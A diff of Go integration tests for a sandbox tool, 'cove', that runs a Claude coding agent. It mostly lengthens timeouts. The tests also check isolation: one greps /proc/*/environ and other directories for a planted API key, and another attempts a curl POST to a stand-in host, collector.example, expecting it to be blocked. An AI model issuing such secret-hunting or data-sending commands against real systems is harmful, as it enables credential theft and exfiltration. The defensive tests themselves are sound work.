@@ -104,7 +104,7 @@ func TestClaude(t *testing.T) {
 	repo := h.repository("repo", map[string]string{"greeting.txt": "hello\n", "plan.md": "# Plan\n\nGreet the world, not nobody.\n"})
 	job, sprite := h.push(repo, "plan.md", "--agent", "claude", "--include", tools,
 		"--env", npmPath(tools))
-	out, code := h.try(repo, "cove", "pull", job, "--wait=5m")
+	out, code := h.try(repo, "cove", "pull", job, "--wait=10m")
 	logs, _ := h.try(repo, "cove", "job", "logs", job)
 	t.Logf("pull: %s\nlogs:\n%s", out, logs)
 	if code != 0 || !strings.Contains(out, "Fast-forwarded main") {
@@ -130,7 +130,7 @@ func TestClaude(t *testing.T) {
 			t.Error("the key was seen inside")
 		}
 	}
-	h.run("", "cove", "exec", "-s", sprite, "--detach", "--env", "MARK="+planted, "sleep", "60")
+	h.run("", "cove", "exec", "-s", sprite, "--detach", "--env", "MARK="+planted, "sleep", "6000")
 	h.keyNowhere(key)
 	if out, _ := h.try("", "cove", "exec", "-s", sprite, "--", "sh", "-c", "grep -r "+key+" /home /tmp /etc /proc/*/environ 2>/dev/null"); strings.Contains(out, key) {
 		t.Error("the key is in the sprite")
@@ -185,10 +185,10 @@ func TestClaudeConverse(t *testing.T) {
 	h.serve(nil, "--connector", "anthropic="+server.URL)
 	repo := h.repository("repo", map[string]string{"plan.md": "Paint it.\n"})
 	flags := []string{"plan.md", "--agent", "claude", "--include", tools, "--env", npmPath(tools)}
-	job, _ := h.push(repo, append(flags, "--converse", "--max-idle", "20s")...)
+	job, _ := h.push(repo, append(flags, "--converse", "--max-idle", "2m")...)
 	waits := func(said string) {
 		t.Helper()
-		await(t, "it waits after "+said, 60*time.Second, func() bool {
+		await(t, "it waits after "+said, func() bool {
 			return h.job(job).State.Terminal() || strings.Contains(h.run("", "cove", "job", "logs", job), said) && h.job(job).State == sprites.JobWaiting
 		})
 		if got := h.job(job); got.State != sprites.JobWaiting {
@@ -199,7 +199,7 @@ func TestClaudeConverse(t *testing.T) {
 	h.run("", "cove", "job", "send", job, "Blue.")
 	waits("Painted.")
 	h.run("", "cove", "job", "send", job, "--close", "That is all.")
-	if out, code := h.try(repo, "cove", "pull", job, "--wait=2m"); code != 0 {
+	if out, code := h.try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
 		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.run("", "cove", "job", "logs", job))
 	}
 	if got := h.run(repo, "git", "log", "--format=%s"); got != "Say good bye\nPaint it\nfirst\n" {
@@ -260,13 +260,13 @@ func TestClaudeCheckpoint(t *testing.T) {
 		"--env", npmPath(tools))
 	select {
 	case <-held:
-	case <-time.After(2 * time.Minute):
+	case <-time.After(lastResort):
 		t.Fatalf("the model was not asked twice:\n%s", h.run("", "cove", "job", "logs", job))
 	}
 	h.run("", "cove", "checkpoint", "create", "-s", sprite, "--memory")
 	h.run("", "cove", "fork", sprite, "twin", "--label", "copy")
 	close(release)
-	if out, code := h.try(repo, "cove", "pull", job, "--wait=3m"); code != 0 {
+	if out, code := h.try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
 		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.run("", "cove", "job", "logs", job))
 	}
 	if got := h.run(repo, "git", "log", "--format=%s"); got != "Two\nOne\nfirst\n" {
@@ -275,7 +275,7 @@ func TestClaudeCheckpoint(t *testing.T) {
 	work := "/home/sprite/work/" + job + "/repo"
 	finished := func(name string) {
 		t.Helper()
-		await(t, "the copy in "+name, 3*time.Minute, func() bool {
+		await(t, "the copy in "+name, func() bool {
 			_, code := h.try("", "cove", "exec", "-s", name, "--", "test", "-e", "/home/sprite/.cove/jobs/"+job+"/end.json")
 			return code == 0
 		})
@@ -367,8 +367,8 @@ func TestAgentRegistries(t *testing.T) {
 	h := newHost(t)
 	h.serve(nil)
 	h.run("", "cove", "create", "paint", "--network", "agent")
-	h.run("", "cove", "exec", "-s", "paint", "--timeout", "3m", "sh", "-c", "mkdir x; cd x; npm init -y >log; npm install --no-audit is-number@7.0.0 >>log; test -e node_modules/is-number")
-	h.run("", "cove", "exec", "-s", "paint", "--timeout", "5m", "--user", "root", "sh", "-c",
+	h.run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "sh", "-c", "mkdir x; cd x; npm init -y >log; npm install --no-audit is-number@7.0.0 >>log; test -e node_modules/is-number")
+	h.run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "--user", "root", "sh", "-c",
 		"apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends sl >/dev/null && test -x /usr/games/sl")
 	if out, code := h.try("", "cove", "exec", "-s", "paint", "curl", "-sS", "-m", "10", "-d", "x", "http://collector.example/"); code == 0 {
 		t.Errorf("a POST to another host: %s", out)
